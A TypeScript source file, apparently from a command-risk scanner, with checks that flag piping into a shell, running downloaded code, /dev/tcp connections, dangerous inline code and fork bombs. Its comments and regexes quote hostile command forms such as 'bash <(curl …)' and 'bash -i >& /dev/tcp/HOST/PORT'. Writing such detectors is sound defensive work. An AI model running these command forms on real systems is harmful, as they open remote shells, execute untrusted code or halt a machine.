import { finding } from '../finding.ts';
import type { RiskCheck, RoughFinding } from '../finding.ts';
import { recordOf } from '../../programs/list.ts';
/** Whether a program runs what stands in its arguments or in what it reads. */
export function takesCommands(name: string): boolean {
  return recordOf(name)?.runs === 'code';
}

/** Text from another program, run as commands. */
export const checkPipeToShell: RiskCheck = ({ name, args, piped }) => {
  if (!piped || !takesCommands(name)) return [];
  const code = args.some((arg) => /^-(?:c|e|m|r|p|-eval|-print)$/.test(arg));
  const script = args.find((arg) => !arg.startsWith('-') && arg !== '/dev/stdin');
  if (code || (script !== undefined && !args.includes('-s'))) return [];
  return [
    finding('pipe-to-shell', 'high', `Runs whatever comes through the pipe as ${name} commands.`),
  ];
};

const downloadsAsCode =
  /(?:\b(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*|\beval\s+|\bsource\s+|(?:^|[;&|\s])\.\s+)["']?(?:<\(|\$\(|`)\s*(?:curl|wget|fetch)\b/;

/** `bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget …)"`: the text decides. */
export function checkDownloadAsCode(text: string): RoughFinding | null {
  if (!downloadsAsCode.test(text)) return null;
  return finding('pipe-to-shell', 'high', 'Runs what it downloads.');
}

/** `bash -i >& /dev/tcp/HOST/PORT`: the names by which bash opens connections. */
export function checkConnection(text: string): RoughFinding | null {
  if (!/[<>&\s'"]\/+dev\/+(?:tcp|udp)\//.test(text)) return null;
  return finding('data-leaving', 'high', 'Connects a shell to another machine.');
}

const dangerousCode =
  /system|subprocess|popen|exec(?!utable\b)|spawn|child_process|socket|https?:|urllib|requests?\.|fetch\(|rmtree|unlink|rmSync|rmdir|os\.remove|FileUtils|\beval\b|compile\(|__import__|base64|writeFile|open\([^)]*['"][wa]/;

/** Code that stands in the command itself. */
export const checkInlineCode: RiskCheck = ({ name, reading }) => {
  const codes = (reading?.effects ?? []).flatMap((effect) =>
    effect.kind === 'code' ? (effect.text ?? []) : [],
  );
  return codes.map((code) => {
    const dangerous = dangerousCode.test(code);
    const what = dangerous ? ', which starts programs, uses the network or changes files' : '';
    return finding(
      'inline-code',
      dangerous ? 'high' : 'low',
      `Runs code from the command itself with ${name}${what}.`,
      [code],
    );
  });
};

const bomb = /([\w:.-]+)\s*\(\)\s*\{[^}]*\1\s*\|\s*\1\s*&[^}]*\}/;

/** A function that starts itself twice: no plan, so the text decides. */
export function checkForkBomb(text: string): RoughFinding | null {
  if (!bomb.test(text)) return null;
  const what = 'Starts itself again and again, until this machine stands still.';
  return finding('stops-programs', 'high', what);
}
